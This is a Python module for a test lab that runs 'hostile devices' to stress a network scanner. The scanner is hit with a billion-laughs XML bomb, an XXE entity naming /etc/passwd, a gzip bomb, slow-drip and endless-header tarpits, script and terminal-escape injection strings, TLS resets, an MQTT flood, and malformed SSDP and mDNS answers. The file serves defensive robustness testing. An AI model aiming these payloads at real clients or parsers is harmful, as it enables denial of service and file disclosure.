"""The hostile lab's devices: real sockets that attack or stall a scanner instead of serving it.

Why a program of our own and not real daemons: no shipped daemon misbehaves on purpose, and each
attack here is a protocol fact a scanner must survive (an entity expansion, a byte a second, a
reset mid-handshake), not a code path of some product. One process serves one device: every
socket is bound to that device's address in its namespace, so what the scanner sees comes from
the address it scanned, exactly as with a real device.

Nothing here reads a file or runs a command on a client's behalf: the "external entity" device
only *names* /etc/passwd in its XML, and the scanner must never resolve it.

Run it with the venv's interpreter:
``python -m iotrate.lab.hostile_devices --address A --outside B tcp/80=http-drip udp/1900=ssdp``.
"""

from __future__ import annotations

import argparse
import asyncio
import functools
import signal
import socket
import struct
import zlib
from collections.abc import Awaitable, Callable
from typing import cast

SSDP_GROUP = "239.255.255.250"
UPNP_PORT = 49152
HUGE_SIZE = 200 * 1024 * 1024
BOMB_INFLATED = 100 * 1024 * 1024  # 1000:1 for zeros under zlib level 9
EVIL = "<script>alert('iotrate')</script>\x1b[2J\x1b]0;owned\x07\x1b[31mRED"

Handler = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


def _description(friendly: str, doctype: str = "") -> bytes:
    return (
        f'<?xml version="1.0"?>\n{doctype}'
        '<root xmlns="urn:schemas-upnp-org:device-1-0"><specVersion><major>1</major>'
        "<minor>0</minor></specVersion><device>"
        "<deviceType>urn:schemas-upnp-org:device:MediaRenderer:1</deviceType>"
        f"<friendlyName>{friendly}</friendlyName><manufacturer>Hostile</manufacturer>"
        "<modelName>Hostile</modelName><UDN>uuid:00000000-0000-0000-0000-00000000beef</UDN>"
        "</device></root>\n"
    ).encode()


_LAUGHS = "".join(
    f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
    for i in range(1, 10)
)
BILLION_LAUGHS = _description("&lol9;", f'<!DOCTYPE root [<!ENTITY lol "lol">{_LAUGHS}]>\n')
XXE = _description("&xxe;", '<!DOCTYPE root [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n')


def _gzip_bomb() -> bytes:
    """Built in 1 MiB steps so the device itself never holds the inflated 100 MB."""
    comp = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = bytes(1024 * 1024)
    parts = [comp.compress(zeros) for _ in range(BOMB_INFLATED // len(zeros))]
    return b"".join(parts) + comp.flush()


async def _read_request(reader: asyncio.StreamReader) -> bytes:
    try:
        return await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
    except (asyncio.IncompleteReadError, asyncio.LimitOverrunError, TimeoutError):
        return b""


def _head(status: str, headers: dict[str, str]) -> bytes:
    lines = [f"HTTP/1.1 {status}"] + [f"{k}: {v}" for k, v in headers.items()]
    return ("\r\n".join(lines) + "\r\n\r\n").encode("utf-8", "surrogateescape")


async def _hold(writer: asyncio.StreamWriter) -> None:
    """Keep the connection open until the client gives up: the stall is the attack."""
    await asyncio.sleep(3600)


async def tarpit(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    await _hold(writer)


async def http_drip(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    await _read_request(reader)
    body = b"<html><title>drip</title>" + b"." * 4096
    for byte in _head("200 OK", {"Content-Length": str(len(body))}) + body:
        writer.write(bytes([byte]))
        await writer.drain()
        await asyncio.sleep(1)


async def http_endless_header(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    await _read_request(reader)
    writer.write(b"HTTP/1.1 200 OK\r\nX-Endless: ")
    while True:
        writer.write(b"A" * 1024)
        await writer.drain()
        await asyncio.sleep(0.01)


class Http:
    """The answers that need precomputed bytes or the device's own address."""

    def __init__(self, address: str, outside: str) -> None:
        self.address = address
        self.outside = outside
        self._bomb: bytes | None = None

    async def gzip_bomb(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await _read_request(reader)
        if self._bomb is None:
            self._bomb = _gzip_bomb()
        head = {"Content-Type": "text/html", "Content-Encoding": "gzip"}
        head["Content-Length"] = str(len(self._bomb))
        writer.write(_head("200 OK", head) + self._bomb)
        await writer.drain()

    async def script(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await _read_request(reader)
        body = f"<html><head><title>{EVIL}</title></head><body>{EVIL}</body></html>".encode()
        head = {"Server": EVIL, "Content-Type": "text/html", "Content-Length": str(len(body))}
        writer.write(_head("200 OK", head) + body)
        await writer.drain()

    async def redirect_loop(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        await _read_request(reader)
        loc = f"http://{self.address}:8000/"
        writer.write(_head("302 Found", {"Location": loc, "Content-Length": "0"}))
        await writer.drain()

    async def redirect_outside(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        await _read_request(reader)
        loc = f"http://{self.outside}/admin"
        writer.write(_head("302 Found", {"Location": loc, "Content-Length": "0"}))
        await writer.drain()

    async def xml(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Serves every description path the SSDP answers name, by path."""
        request = await _read_request(reader)
        path = request.split(b" ", 2)[1] if request.count(b" ") >= 2 else b"/"
        if path.startswith(b"/bomb"):
            body = BILLION_LAUGHS
        elif path.startswith(b"/xxe"):
            body = XXE
        elif path.startswith(b"/huge"):
            await self._huge(writer)
            return
        elif path.startswith(b"/never"):
            await self._never(writer)
            return
        else:
            body = _description("Hostile")
        head = {"Content-Type": "text/xml", "Content-Length": str(len(body))}
        writer.write(_head("200 OK", head) + body)
        await writer.drain()

    async def _huge(self, writer: asyncio.StreamWriter) -> None:
        head = {"Content-Type": "text/xml", "Content-Length": str(HUGE_SIZE)}
        writer.write(_head("200 OK", head) + b'<?xml version="1.0"?><root><device><x>')
        chunk = b"A" * 65536
        sent = 0
        while sent < HUGE_SIZE:
            writer.write(chunk)
            await writer.drain()
            sent += len(chunk)

    async def _never(self, writer: asyncio.StreamWriter) -> None:
        writer.write(_head("200 OK", {"Content-Type": "text/xml"}) + b'<?xml version="1.0"?><root>')
        while True:
            await writer.drain()
            writer.write(b" ")
            await asyncio.sleep(1)


async def telnet_no_prompt(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    # IAC WILL ECHO, IAC WILL SUPPRESS-GO-AHEAD, then a banner and silence: no "login:" ever.
    writer.write(b"\xff\xfb\x01\xff\xfb\x03\r\n" + EVIL.encode() + b"\r\n")
    await writer.drain()
    await _hold(writer)


async def tls_reset(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Reads the ClientHello, answers half a ServerHello, then resets (RST, not FIN)."""
    try:
        await asyncio.wait_for(reader.read(5), 10)
    except TimeoutError:
        pass
    writer.write(b"\x16\x03\x03\x00\x4a\x02\x00\x00\x46\x03\x03")
    await writer.drain()
    sock = writer.get_extra_info("socket")
    if sock is not None:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    writer.transport.abort()


def _mqtt_publish(n: int) -> bytes:
    topic = f"flood/{n % 1000}".encode()
    payload = b"x" * 200
    body = struct.pack(">H", len(topic)) + topic + payload
    return b"\x30" + bytes([len(body) & 0x7F | 0x80, len(body) >> 7]) + body


async def mqtt_flood(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """CONNACK 0 to any CONNECT (anonymous welcome), then PUBLISH packets as fast as TCP allows."""
    try:
        await asyncio.wait_for(reader.read(4096), 10)
    except TimeoutError:
        return
    writer.write(b"\x20\x02\x00\x00")
    n = 0
    while True:
        writer.write(b"".join(_mqtt_publish(n + i) for i in range(64)))
        n += 64
        await writer.drain()
        await asyncio.sleep(0)


class Ssdp(asyncio.DatagramProtocol):
    """Answers every M-SEARCH: with a hostile LOCATION, absurd headers, or LOCATIONs elsewhere."""

    def __init__(self, address: str, outside: str, kind: str) -> None:
        self.address = address
        self.outside = outside
        self.kind = kind
        self.transport: asyncio.DatagramTransport | None = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = cast(asyncio.DatagramTransport, transport)

    def answers(self) -> list[bytes]:
        own = f"http://{self.address}:{UPNP_PORT}"
        base = {"CACHE-CONTROL": "max-age=1800", "EXT": "", "SERVER": f"Linux UPnP/1.0 {EVIL}"}
        if self.kind == "ssdp-bomb":
            locations = [f"{own}/bomb.xml"]
        elif self.kind == "ssdp-xxe":
            locations = [f"{own}/xxe.xml"]
        elif self.kind == "ssdp-absurd":
            locations = [f"{own}/huge.xml"]
        else:
            locations = [
                f"http://127.0.0.1:{UPNP_PORT}/loopback.xml",
                f"http://localhost:{UPNP_PORT}/loopback.xml",
                f"http://{self.outside}:{UPNP_PORT}/outside.xml",
                f"{own}/never.xml",
            ]
        out = []
        for i, loc in enumerate(locations):
            headers = {**base, "LOCATION": loc, "ST": "upnp:rootdevice"}
            headers["USN"] = f"uuid:00000000-0000-0000-0000-0000000000{i:02d}::upnp:rootdevice"
            lines = ["HTTP/1.1 200 OK"] + [f"{k}: {v}" for k, v in headers.items()]
            if self.kind == "ssdp-absurd":
                lines += [f"X-Absurd-{j}: {'Z' * 900}" for j in range(60)]
                lines.append("X-No-Colon-" + "Q" * 2000)
            out.append(("\r\n".join(lines) + "\r\n\r\n").encode("utf-8"))
        return out

    def datagram_received(self, data: bytes, addr: tuple[str | int, ...]) -> None:
        if self.transport is None or not data.startswith(b"M-SEARCH"):
            return
        for answer in self.answers():
            self.transport.sendto(answer, addr)


MDNS_GROUP = "224.0.0.251"


def _dns_name(*labels: bytes) -> bytes:
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\0"


def malformed_mdns() -> list[bytes]:
    """Answers a careless DNS parser trips on: a compression pointer to itself, a TXT record
    far past the 255-byte string and 1500-byte packet conventions, a record longer than its
    packet, and a header promising 65535 answers."""
    header = struct.pack(">6H", 0, 0x8400, 0, 1, 0, 0)
    loop = header + b"\xc0\x0c" + struct.pack(">HHIH", 12, 1, 120, 2) + b"\xc0\x0c"
    txt = b"".join(bytes([255]) + b"k=" + b"\x1b" * 253 for _ in range(30))
    name = _dns_name(b"evil", b"_http", b"_tcp", b"local")
    oversized = header + name + struct.pack(">HHIH", 16, 0x8001, 120, len(txt)) + txt
    ptr = _dns_name(b"_http", b"_tcp", b"local")
    lying = header + ptr + struct.pack(">HHIH", 12, 1, 120, 4000) + name
    many = struct.pack(">6H", 0, 0x8400, 0, 65535, 0, 0) + ptr
    return [loop, oversized, lying, many]


class Mdns(asyncio.DatagramProtocol):
    """Answers every query, to the group and to the asker, with malformed packets only."""

    def __init__(self) -> None:
        self.transport: asyncio.DatagramTransport | None = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = cast(asyncio.DatagramTransport, transport)

    def datagram_received(self, data: bytes, addr: tuple[str | int, ...]) -> None:
        # Only queries (QR bit clear), so two responders never answer each other forever.
        if self.transport is None or len(data) < 12 or data[2] & 0x80:
            return
        for packet in malformed_mdns():
            self.transport.sendto(packet, addr)
            self.transport.sendto(packet, (MDNS_GROUP, 5353))


async def serve(address: str, outside: str, behaviours: dict[str, str]) -> None:
    http = Http(address, outside)
    if "http-gzip-bomb" in behaviours.values():
        http._bomb = _gzip_bomb()  # before listening, so the lab is up only once it can answer
    handlers: dict[str, Handler] = {
        "tarpit": tarpit,
        "http-drip": http_drip,
        "http-endless-header": http_endless_header,
        "http-gzip-bomb": http.gzip_bomb,
        "http-script": http.script,
        "http-redirect-loop": http.redirect_loop,
        "http-redirect-outside": http.redirect_outside,
        "xml-bomb": http.xml,
        "xml-xxe": http.xml,
        "xml-huge": http.xml,
        "xml-never-ends": http.xml,
        "telnet-no-prompt": telnet_no_prompt,
        "tls-reset": tls_reset,
        "mqtt-flood": mqtt_flood,
    }
    loop = asyncio.get_running_loop()
    servers: list[asyncio.AbstractServer] = []
    for where, what in behaviours.items():
        transport, port = where.split("/")
        if transport == "tcp":
            handler = handlers[what]

            async def guarded(
                r: asyncio.StreamReader, w: asyncio.StreamWriter, h: Handler = handler
            ) -> None:
                # A client that hangs up mid-attack is the normal end, not an error to log.
                try:
                    await h(r, w)
                    w.close()  # a clean close, so the last bytes reach the client before FIN
                    await w.wait_closed()
                except (ConnectionError, OSError):
                    w.transport.abort()

            servers.append(await asyncio.start_server(guarded, address, int(port), backlog=256))
        else:
            mdns = what == "mdns-malformed"
            sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            sock.bind(("0.0.0.0", int(port)))  # noqa: S104 - multicast needs the wildcard
            group = MDNS_GROUP if mdns else SSDP_GROUP
            mreq = socket.inet_aton(group) + socket.inet_aton(address)
            sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreq)
            sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
            factory: Callable[[], asyncio.DatagramProtocol] = (
                Mdns if mdns else functools.partial(Ssdp, address, outside, what)
            )
            await loop.create_datagram_endpoint(factory, sock=sock)
    stop = asyncio.Event()
    for sig in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(sig, stop.set)
    await stop.wait()
    for server in servers:
        server.close()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--address", required=True)
    parser.add_argument("--outside", required=True, help="an address outside the lab's targets")
    parser.add_argument("behaviour", nargs="+", help="TRANSPORT/PORT=BEHAVIOUR")
    args = parser.parse_args()
    behaviours = dict(b.split("=", 1) for b in args.behaviour)
    asyncio.run(serve(args.address, args.outside, behaviours))


if __name__ == "__main__":
    main()
